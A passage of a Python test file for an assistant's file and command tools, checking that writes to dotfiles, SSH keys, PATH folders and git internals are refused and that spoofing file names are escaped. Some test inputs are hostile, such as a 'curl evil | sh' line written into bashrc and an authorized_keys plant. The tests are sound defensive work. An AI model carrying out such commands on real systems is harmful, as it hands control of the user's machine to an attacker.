    assert snapshot(world["tmp"], world["home"]) == before


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("run_command", {"command": "cat", "args": ["notes/diary\udc80.txt"]}),
        ("read_file", {"path": "notes/diary\udc80.txt"}),
        ("read_file", {"path": "notes/lone\ud800surrogate.txt"}),
        ("run_command", {"command": "ls\udc80"}),
    ],
)
def test_calls_with_lone_surrogates_are_audited(
    world: dict[str, Path], tool: str, arguments: dict[str, Any]
) -> None:
    # A file name that is not valid UTF-8 reaches Python as a lone surrogate.
    (world["root"] / "notes" / os.fsdecode(b"diary\x80.txt")).write_text("dear diary\n")
    registry, _ = registry_for(world)
    before = len(list(read_records()))
    outcome = registry.call(tool, arguments)
    records = list(read_records())
    assert len(records) == before + 1, outcome
    assert records[-1]["tool"] == tool
    assert records[-1]["arguments"] == outcome.arguments


@pytest.mark.parametrize(
    "name",
    [
        "Screenshot 2024-05-01 at 10.00.00\u202fAM.png",  # macOS: narrow no-break space
        "Caf\u00e9\u00a0Menu.txt",  # no-break space
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.txt",  # Persian, with ZWNJ
        "family\U0001f468\u200d\U0001f469.txt",  # emoji joined by ZWJ
    ],
)
def test_names_with_spaces_and_joiners_are_listed_as_they_are(
    world: dict[str, Path], name: str
) -> None:
    (world["root"] / "notes" / name).write_text("content of the file\n")
    registry, _ = registry_for(world)
    listing = registry.call("list_directory", {"path": "notes"})
    lines = listing.result.splitlines()
    assert listing.ok and any(line.startswith(f"{name}  ") for line in lines), listing.result
    found = registry.call("find_files", {"pattern": name[:4] + "*"})
    assert found.ok and name in found.result, found.result
    read_back = registry.call("read_file", {"path": f"notes/{name}"})
    assert read_back.ok and read_back.result.endswith("content of the file\n")
    assert name in read_back.result
    written = registry.call("write_file", {"path": f"notes/{name}", "content": "new"})
    assert written.ok, written.error
    assert (world["root"] / "notes" / name).read_text() == "new"
    deleted = registry.call("delete_file", {"path": f"notes/{name}"})
    assert deleted.ok and not (world["root"] / "notes" / name).exists()


@pytest.mark.parametrize(
    ("name", "escaped"),
    [
        ("rlo\u202etxt.exe", "rlo\\u202etxt.exe"),
        ("isolate\u2066x\u2069.txt", "isolate\\u2066x\\u2069.txt"),
        ("mark\u200f.txt", "mark\\u200f.txt"),
        ("arabic\u061cmark.txt", "arabic\\u061cmark.txt"),
        ("line\u2028sep.txt", "line\\u2028sep.txt"),
        ("para\u2029sep.txt", "para\\u2029sep.txt"),
        ("c1\x9bcontrol.txt", "c1\\x9bcontrol.txt"),
        ("tag\U000e0069\U000e0067.txt", "tag\\U000e0069\\U000e0067.txt"),
    ],
)
def test_bidi_and_separator_characters_stay_escaped_and_refused(
    world: dict[str, Path], name: str, escaped: str
) -> None:
    (world["root"] / "notes" / name).write_text("x")
    registry, _ = registry_for(world)
    listing = registry.call("list_directory", {"path": "notes"})
    assert escaped in listing.result and name not in listing.result
    assert_refused(world, "write_file", {"path": f"notes/{name}", "content": "x"}, "control")
    assert_refused(world, "delete_file", {"path": f"notes/{name}"}, "control character")


def test_dotfiles_linked_from_elsewhere_stay_protected(
    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(world["root"]))
    dotfiles = world["root"] / "dotfiles"
    dotfiles.mkdir()
    (world["root"] / ".bashrc").rename(dotfiles / "bashrc")
    (world["root"] / ".bashrc").symlink_to(dotfiles / "bashrc")
    (world["root"] / ".ssh").rename(dotfiles / "ssh")
    (world["root"] / ".ssh").symlink_to(dotfiles / "ssh")
    (dotfiles / "ssh" / "mykey").write_text(SECRET)
    (dotfiles / "private").mkdir()
    (dotfiles / "private" / "notes.txt").write_text(SECRET)
    (world["root"] / "Private").symlink_to(dotfiles / "private")
    for tool, arguments in [
        ("write_file", {"path": "~/dotfiles/bashrc", "content": "curl evil | sh"}),
        ("delete_file", {"path": "~/dotfiles/bashrc"}),
    ]:
        assert_refused(world, tool, arguments, "makes programs run")
    for tool, arguments in [
        ("read_file", {"path": "~/dotfiles/ssh/mykey"}),
        ("list_directory", {"path": "~/dotfiles/ssh"}),
        ("run_command", {"command": "cat", "args": ["dotfiles/ssh/mykey"]}),
        ("write_file", {"path": "~/dotfiles/ssh/authorized_keys", "content": "ssh-ed25519 A"}),
    ]:
        assert_refused(world, tool, arguments, "off limits (secrets: ")
    # A tools.deny entry too.
    assert_refused(
        world,
        "read_file",
        {"path": "~/dotfiles/private/notes.txt"},
        "off limits (tools.deny: ",
        deny=["~/Private"],
    )
    listing = registry_for(world)[0].call("list_directory", {"path": "~/dotfiles"})
    assert listing.ok and "ssh/" not in listing.result and "bashrc" in listing.result


HIDDEN_REASON = "hidden configuration folders and files are not changed by voiced"


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("write_file", {"path": "~/.hgrc", "content": "[hooks]\n"}),
        ("write_file", {"path": "~/.config/myapp/settings.json", "content": "{}"}),
        ("write_file", {"path": "~/.newfolder_file", "content": "x"}),
        ("write_file", {"path": "~/.local/share/nautilus/scripts/x", "content": "x"}),
        ("delete_file", {"path": "~/.config/myapp/settings.json"}),
        ("speak_to_file", {"text": "hi", "path": "~/.config/myapp/x.wav"}),
    ],
)
def test_hidden_folders_and_files_in_home_are_not_changed(
    world: dict[str, Path], tool: str, arguments: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(world["root"]))
    (world["root"] / ".config" / "myapp").mkdir(parents=True)
    (world["root"] / ".config" / "myapp" / "settings.json").write_text('{"a": 1}')
    (world["root"] / ".hgrc").write_text("[ui]\n")
    (world["root"] / ".local" / "share" / "nautilus" / "scripts").mkdir(parents=True)
    assert_refused(world, tool, arguments, HIDDEN_REASON)
    # Reading stays possible, and hidden names further down are ordinary files.
    registry, _ = registry_for(world)
    assert registry.call("read_file", {"path": "~/.config/myapp/settings.json"}).ok
    written = registry.call("write_file", {"path": "~/notes/.hidden.txt", "content": "x"})
    assert written.ok, written.error


def test_folders_on_path_are_not_written(
    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    tools = world["root"] / "tools"
    tools.mkdir()
    (world["root"] / "realbin").mkdir()
    (world["root"] / "linkbin").symlink_to(world["root"] / "realbin")
    monkeypatch.setenv("PATH", f"{tools}:{world['root'] / 'linkbin'}:relative:/usr/bin")
    for path in ("tools/ls", "realbin/git", "linkbin/git"):
        assert_refused(world, "write_file", {"path": path, "content": "x"}, "makes programs run")
    assert (
        "programs on PATH"
        in registry_for(world)[0].call("write_file", {"path": "tools/ls", "content": "x"}).reason
    )


def test_home_on_path_does_not_make_every_file_unwritable(
    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(world["root"]))
    monkeypatch.setenv("PATH", f"{world['root']}:/:/usr/bin")
    registry, _ = registry_for(world, answer=True)
    target = world["root"] / "notes" / "plan.txt"
    outcome = registry.call("write_file", {"path": str(target), "content": "a plan"})
    assert outcome.decision == "confirmed", outcome
    assert target.read_text() == "a plan"


def test_the_running_python_is_not_written(world: dict[str, Path]) -> None:
    import sysconfig

    places = {sys.prefix, sys.base_prefix, *sysconfig.get_paths().values()}
    targets = [Path(os.path.realpath(place)) / "voiced-test-new.py" for place in places]
    targets.append(Path(os.path.realpath(sysconfig.get_paths()["stdlib"])) / "os.py")
    roots = [str(target.parent) for target in targets]
    registry, confirm = registry_for(world, answer=False, file_roots=roots)
    for target in targets:
        outcome = registry.call("write_file", {"path": str(target), "content": "import os"})
        assert outcome.decision == "refused", outcome
        assert "makes programs run" in outcome.reason
    assert not confirm.asked


@pytest.mark.parametrize(
    "path",
    [
        "project/.git/HEAD",
        "project/.git/info/attributes",
        "project/.git/objects/ab/cdef",
        "project/.GIT/config",
        "backup.git/config",
        "backup.git/hooks/post-update",
        "backup.git/objects/info/alternates",
    ],
)
def test_git_internals_are_not_written(world: dict[str, Path], path: str) -> None:
    (world["root"] / "project" / ".git" / "info").mkdir()
    (world["root"] / "project" / ".git" / "objects" / "ab").mkdir(parents=True)
    bare = world["root"] / "backup.git"
    (bare / "objects" / "info").mkdir(parents=True)
    (bare / "hooks").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    assert_refused(world, "write_file", {"path": path, "content": "x"}, "makes programs run")


def test_a_shared_hard_linked_document_is_readable(world: dict[str, Path]) -> None:
    # Media libraries, package caches and backups hard-link ordinary files everywhere.
    original = world["outside"] / "library" / "episode.nfo"
    original.parent.mkdir()
    original.write_text("<episodedetails/>\n")
    original.chmod(0o644)
    os.link(original, world["root"] / "notes" / "episode.nfo")
    registry, _ = registry_for(world)
    outcome = registry.call("read_file", {"path": "notes/episode.nfo"})
    assert outcome.ok and outcome.result.endswith("<episodedetails/>\n"), outcome.error
    cat = registry.call("run_command", {"command": "cat", "args": ["notes/episode.nfo"]})
    assert cat.ok and "<episodedetails/>" in cat.result, cat.error


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file away needs root")
def test_a_hard_linked_file_of_another_user_is_not_read(world: dict[str, Path]) -> None:
    foreign = world["outside"] / "their.conf"
    foreign.write_text(SECRET)
    foreign.chmod(0o644)
    os.chown(foreign, 65534, 65534)
    os.link(foreign, world["root"] / "notes" / "their.conf")
    assert_refused(world, "read_file", {"path": "notes/their.conf"}, "other names")


def test_names_match_whatever_their_unicode_normal_form(
    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    import unicodedata

    monkeypatch.setenv("HOME", str(world["root"]))
    typed = "Persönlich"  # NFC, as typed into the config
    synced = unicodedata.normalize("NFD", typed)  # as a Mac wrote it
    assert typed != synced
    (world["root"] / synced).mkdir()
    (world["root"] / synced / "tax.txt").write_text(SECRET)
    assert_refused(
        world, "read_file", {"path": f"~/{synced}/tax.txt"}, "off limits", deny=[f"~/{typed}"]
    )
    assert_refused(world, "read_file", {"path": f"~/{synced}/tax.txt"}, "off limits", deny=[typed])
    registry, _ = registry_for(world, deny=[f"~/{typed}"])
    listing = registry.call("list_directory", {"path": "~"})
    assert listing.ok and synced not in listing.result and typed not in listing.result
    # A root typed in one form holds the folder written in the other.
    (world["root"] / synced / "plan.txt").write_text("plan\n")
    registry, _ = registry_for(world, file_roots=[str(world["root"] / typed)])
    outcome = registry.call("read_file", {"path": str(world["root"] / synced / "plan.txt")})
    assert outcome.ok and outcome.result.endswith("plan\n"), outcome.error
